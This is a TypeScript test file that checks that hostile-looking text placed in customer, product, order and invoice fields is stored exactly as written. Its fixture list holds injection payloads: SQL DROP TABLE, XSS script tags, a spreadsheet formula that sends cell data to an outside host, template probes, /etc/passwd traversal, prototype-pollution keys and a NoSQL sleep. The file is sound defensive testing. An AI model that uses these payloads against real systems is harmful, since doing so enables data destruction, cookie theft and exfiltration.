import { describe, expect, it } from 'vitest';
import type { CommandKind } from '../../../core/use-cases.ts';
import { scratchStore } from '../../../sync/local/overlay.ts';
import { bodies } from './bodies.ts';
import { changed } from './change.ts';
import { company, give } from './company.ts';

const here = await company();
const good = bodies(here);

/** Texts that do harm where a text is taken for something else. Here they are names, and names are kept as they are. */
const texts: readonly (readonly [what: string, text: string])[] = [
  ['a query', "Robert'); DROP TABLE customers;--"],
  ['another query', '" OR ""="'],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['a picture that runs', '<img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("http://x.example?"&A1,"click")'],
  ['a template', '${7*7} {{7*7}} #{7*7} %s%n'],
  ['a path', '../../etc/passwd'],
  ['a path of Windows', 'C:\\Windows\\System32\\'],
  ['a part of every object', 'constructor'],
  ['a prototype', '__proto__'],
  ['JSON', '{"$where":"sleep(1000)"}'],
  ['an entity', '&lt;b&gt; &amp;'],
  ['text from right to left', 'شركة المثال ــ בע״מ'],
  ['text with joiners that belong to it', 'می\u200Cخواهم 👩\u200D👩\u200D👧'],
  ['four scripts', 'Ελλάς Москва 東京 한국'],
  ['letters with many marks', 'Z\u0351\u036B\u0343a\u0327\u0300l\u0335g\u0321o'],
  ['a name as long as it may be', 'x'.repeat(120)],
  ['nothing to look at twice', 'null'],
];

/** A place of a command that takes any text, and where it then stands in the first document that is written. */
const places: readonly (readonly [kind: CommandKind, at: string, kept: string])[] = [
  ['customer.create', '/companyName', '/name'],
  ['customer.create', '/billingAddress/city', '/billingAddress/city'],
  ['customer.create', '/attributes/tier', '/attributes/tier'],
  ['customer.create', '/contacts/0/name', '/contacts/0/name'],
  ['product.create', '/name', '/name'],
  ['product.create', '/description', '/description'],
  ['product.create', '/metadata/owner', '/metadata/owner'],
  ['plan.create', '/name', '/name'],
  ['segment.create', '/name', '/name'],
  ['metric.create', '/name', '/name'],
  ['offer.create', '/name', '/name'],
  ['entity.create', '/legalName', '/legalName'],
  ['order.place', '/lines/1/item/description', '/lines/1/item/description'],
  ['order.place', '/note', '/note'],
  ['invoice.create-manual', '/lines/0/description', '/lines/0/title'],
  ['invoice.create-manual', '/note', '/note'],
  ['usage.record', '/events/0/properties/region', '/events/0/properties/region'],
  ['adjustment.create', '/reason', '/reason'],
  ['payment.record', '/reference', '/reference'],
];

const valueAt = (document: unknown, pointer: string): unknown =>
  pointer
    .split('/')
    .slice(1)
    .reduce((value, part) => (value as Record<string, unknown>)[part], document);

describe('text is text: it is kept letter by letter, and nothing else happens', () => {
  it.each(texts)('%s', async (_what, text) => {
    for (const [kind, at, kept] of places) {
      const store = scratchStore(here.store);
      const documents = await store.list('customer');
      const outcome = await give(store, kind, 'text', changed(good[kind], { [at]: text }));
      expect(outcome, `${kind} ${at}`).toMatchObject({ ok: true });
      for await (const { entry } of store.journal()) {
        const pointer = kind === 'usage.record' ? kept.replace('/events/0', '') : kept;
        expect(valueAt(entry.documents[0], pointer), `${kind} ${at}`).toBe(text);
        expect(JSON.parse(JSON.stringify(entry.documents))).toEqual(entry.documents);
      }
      // What was there before is as it was.
      const after = new Map((await store.list('customer')).map((customer) => [customer.id, customer]));
      expect(documents.every((customer) => after.get(customer.id) === customer)).toBe(true);
    }
  });
});
